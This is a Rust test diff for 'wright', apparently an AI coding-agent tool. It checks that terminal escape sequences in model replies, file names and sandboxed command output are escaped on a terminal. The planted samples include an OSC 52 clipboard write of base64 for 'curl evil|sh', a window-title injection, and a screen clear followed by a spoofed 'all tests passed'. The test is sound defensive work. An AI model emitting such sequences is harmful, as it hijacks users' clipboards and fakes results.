@@ -989,3 +989,90 @@ fn a_run_that_failed_resumes_and_a_finished_one_does_not() {
         text(&again.stderr)
     );
 }
+
+/// `command` run under a pseudo-terminal (util-linux `script`), so that wright's stdout and
+/// stderr are a terminal; what the terminal received, with the pty's `\r\n` made `\n`.
+fn on_a_terminal(command: &Command) -> String {
+    let quote =
+        |word: &std::ffi::OsStr| format!("'{}'", word.to_str().unwrap().replace('\'', "'\\''"));
+    let mut line: Vec<String> = command
+        .get_envs()
+        .filter_map(|(key, value)| Some(format!("{}={}", key.to_str()?, quote(value?))))
+        .collect();
+    line.insert(0, "env -i".to_owned());
+    line.push(quote(command.get_program()));
+    line.extend(command.get_args().map(quote));
+    let out = Command::new("script")
+        .args(["-q", "-e", "-c", &line.join(" "), "/dev/null"])
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .output()
+        .expect("running script (util-linux)");
+    String::from_utf8_lossy(&out.stdout).replace("\r\n", "\n")
+}
+
+#[test]
+fn control_sequences_from_the_model_and_in_file_names_reach_a_terminal_escaped() {
+    let dir = setup("exec-terminal-escapes");
+    let planted = "evil\u{1b}]0;pwned\u{7}.py";
+    dir.write(
+        &format!("ws/{planted}"),
+        "def hostile_marker():\n    pass\n",
+    );
+    let provider = ScriptedProvider::start();
+    let answer =
+        "Done.\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1b}[2J\rwright: all tests passed\u{9b}31m";
+    provider.push(Reply::stream(Dialect::OpenAi, &Turn::text(&[answer])));
+    let seen = on_a_terminal(&command(&dir, Some(&provider), &["say done"]));
+    assert_eq!(provider.requests().len(), 1, "{seen}");
+    assert!(
+        seen.contains(
+            "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07\\x1b[2J\\rwright: all tests passed\\u{9b}31m"
+        ),
+        "{seen:?}"
+    );
+    assert!(
+        !seen.contains('\u{1b}') && !seen.contains('\u{9b}'),
+        "{seen:?}"
+    );
+
+    // Repository file names, in `wright grep` (and any listing) on a terminal.
+    let root = dir.path().join("ws");
+    let mut grep = Command::new(env!("CARGO_BIN_EXE_wright"));
+    grep.args(["grep", "hostile_marker", "--root"])
+        .arg(&root)
+        .env_clear()
+        .env("HOME", dir.path())
+        .env("XDG_CACHE_HOME", dir.path().join("cache"));
+    let seen = on_a_terminal(&grep);
+    assert!(seen.contains("evil\\x1b]0;pwned\\x07.py:1:"), "{seen:?}");
+    assert!(!seen.contains('\u{1b}'), "{seen:?}");
+
+    // Piped, the bytes are the data, unchanged; `--json` is JSON.
+    let piped = grep.output().unwrap();
+    assert!(
+        text(&piped.stdout).starts_with(&format!("{planted}:1:")),
+        "{piped:?}"
+    );
+    let json = grep.arg("--json").output().unwrap();
+    let line: Value =
+        serde_json::from_slice(json.stdout.split(|b| *b == b'\n').next().unwrap()).unwrap();
+    assert_eq!(line["path"], planted);
+
+    // A command's output through `wright sandbox run`: escaped on a terminal, byte-exact piped.
+    let mut run = Command::new(env!("CARGO_BIN_EXE_wright"));
+    run.args(["sandbox", "run", "--root"])
+        .arg(&root)
+        .args(["--", "printf", "out\\033]52;c;eA==\\007\\033[2J\\n"])
+        .env_clear()
+        .env("PATH", "/usr/bin:/bin")
+        .env("HOME", dir.path())
+        .env("XDG_CACHE_HOME", dir.path().join("cache"));
+    let seen = on_a_terminal(&run);
+    assert!(
+        seen.contains("out\\x1b]52;c;eA==\\x07\\x1b[2J\n"),
+        "{seen:?}"
+    );
+    let piped = run.output().unwrap();
+    assert_eq!(piped.stdout, b"out\x1b]52;c;eA==\x07\x1b[2J\n", "{piped:?}");
+}
